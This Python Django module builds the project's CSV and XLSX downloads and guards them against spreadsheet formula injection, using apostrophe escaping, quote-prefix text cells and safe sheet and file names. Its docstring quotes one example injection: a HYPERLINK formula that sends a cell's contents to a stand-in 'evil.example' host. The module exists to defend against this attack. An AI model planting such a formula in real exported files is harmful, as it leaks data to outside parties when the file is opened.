"""Every CSV and XLSX file the project offers is written here.

A spreadsheet runs a cell as a formula when its text begins with ``=``, ``+``, ``-`` or ``@``
(also after a tab or carriage return, and in the full-width forms ``＝ ＋ － ＠`` that some
spreadsheets read as the ASCII ones). A peer worker's name, a supervision topic or a
research passage typed as ``=HYPERLINK("http://evil.example/?q="&A1, "Jamie")`` would then
send the sheet's data away when a manager opens the file. So, in every column:

- **CSV**: such text is written with a leading apostrophe (``'=HYPERLINK(…``), which every
  spreadsheet shows as text;
- **XLSX**: every text is stored as a text cell (never a formula), and such text is also
  marked "quote prefix", Excel's own flag for text typed with a leading apostrophe: the
  value stays exactly as entered, and editing the cell cannot turn it into a formula.

Numbers stay numbers: an ``int``, ``float`` or ``Decimal`` is written as a number, negative
or not, and text that is only a number (``-12.5``) is left alone, since it cannot be a
formula. Dates are ISO in CSV and date cells in XLSX.

Use ``csv_response`` / ``xlsx_response`` in views (or ``csv_text`` / ``xlsx_bytes`` where the
file is built elsewhere): no view writes a CSV or a workbook by hand.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import Any
from uuid import UUID

from django.http import HttpResponse
from django.utils import timezone
from django.utils.functional import Promise
from django.utils.http import content_disposition_header

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# First characters that make a spreadsheet read a cell as a formula (or a DDE command), with
# their full-width and small forms.
FORMULA_STARTS = frozenset("=+-@\t\r\n＝＋－＠﹦﹢﹣﹫")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
# Characters XML 1.0 cannot hold (openpyxl refuses them); they are dropped from XLSX cells.
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
# A sheet name may not hold these and is at most 31 characters long.
_SHEET_TITLE_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")

Row = Sequence[Any]


@dataclass(frozen=True)
class Table:
    """One sheet of a workbook: a title, a header row and the data rows."""

    title: str
    header: Row
    rows: Iterable[Row]


def is_formula_like(text: str) -> bool:
    """Would a spreadsheet run ``text`` as a formula? (Plain numbers are not formulas.)"""
    if not text:
        return False
    first_visible = text.lstrip(" \u00a0\u3000")[:1]
    if text[0] not in FORMULA_STARTS and first_visible not in FORMULA_STARTS:
        return False
    return not _NUMBER.fullmatch(text.strip())


def _plain(value: Any) -> Any:
    """The value as a spreadsheet cell holds it: numbers, dates, booleans or text."""
    if value is None:
        return None
    if isinstance(value, bool | int | Decimal):
        return value
    if isinstance(value, float):
        return value if math.isfinite(value) else None
    if isinstance(value, dt.datetime):
        return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
    if isinstance(value, dt.date | dt.time):
        return value
    if isinstance(value, UUID | Promise):
        return str(value)
    return str(value)


def csv_cell(value: Any) -> Any:
    """A value ready for ``csv.writer``: formula-like text gets a leading apostrophe."""
    value = _plain(value)
    if value is None:
        return ""
    if isinstance(value, dt.datetime | dt.date | dt.time):
        return value.isoformat()
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def csv_text(header: Row, rows: Iterable[Row]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([csv_cell(value) for value in header])
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return buffer.getvalue()


def attachment(content: bytes | str, *, filename: str, content_type: str) -> HttpResponse:
    """A download response; the file name is encoded safely whatever it contains."""
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = content_disposition_header(True, filename)
    response["X-Content-Type-Options"] = "nosniff"
    return response


def csv_response(*, filename: str, header: Row, rows: Iterable[Row]) -> HttpResponse:
    return attachment(csv_text(header, rows), filename=filename, content_type=CSV_CONTENT_TYPE)


def sheet_title(title: str, taken: set[str]) -> str:
    """A valid, unique sheet name (Excel: at most 31 characters, none of ``[]:*?/\\``)."""
    base = _SHEET_TITLE_FORBIDDEN.sub(" ", _ILLEGAL_XML.sub("", str(title))).strip(" '")
    base = (base or "Sheet")[:31]
    candidate, number = base, 1
    while candidate.lower() in taken:
        number += 1
        suffix = f" ({number})"
        candidate = base[: 31 - len(suffix)] + suffix
    taken.add(candidate.lower())
    return candidate


def _xlsx_cells(sheet: Any, row: Row, *, bold: bool = False) -> list[Any]:
    from openpyxl.cell.cell import TYPE_STRING, Cell
    from openpyxl.styles import Font

    cells = []
    for value in row:
        value = _plain(value)
        cell = Cell(sheet)
        if isinstance(value, str):
            # Set directly: openpyxl's setter stores text beginning with "=" as a formula.
            cell._value = _ILLEGAL_XML.sub("", value)
            cell.data_type = TYPE_STRING
            if is_formula_like(cell._value):
                cell.quotePrefix = True
        else:
            cell.value = value
        if bold:
            cell.font = Font(bold=True)
        cells.append(cell)
    return cells


def xlsx_bytes(tables: Sequence[Table]) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    taken: set[str] = set()
    for index, table in enumerate(tables):
        sheet = workbook.active if index == 0 else workbook.create_sheet()
        sheet.title = sheet_title(table.title, taken)
        sheet.append(_xlsx_cells(sheet, table.header, bold=True))
        for row in table.rows:
            sheet.append(_xlsx_cells(sheet, row))
        sheet.freeze_panes = "A2"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(*, filename: str, tables: Sequence[Table]) -> HttpResponse:
    return attachment(xlsx_bytes(tables), filename=filename, content_type=XLSX_CONTENT_TYPE)


# --- File names ---------------------------------------------------------------------------


def dated_filename(*parts: object, ext: str, on: dt.date | None = None) -> str:
    """``peerwork-<parts>-<date>.<ext>``: a download says what it holds and when it was made.

    Empty parts (an unset filter) are left out; the others are slugified, so a file name never
    carries a path separator or a character a file system refuses.
    """
    from django.utils.text import slugify

    day = on or timezone.localdate()
    words = [slugify(str(part)) for part in parts if part not in (None, "")]
    return "-".join(["peerwork", *[word for word in words if word], day.isoformat()]) + f".{ext}"
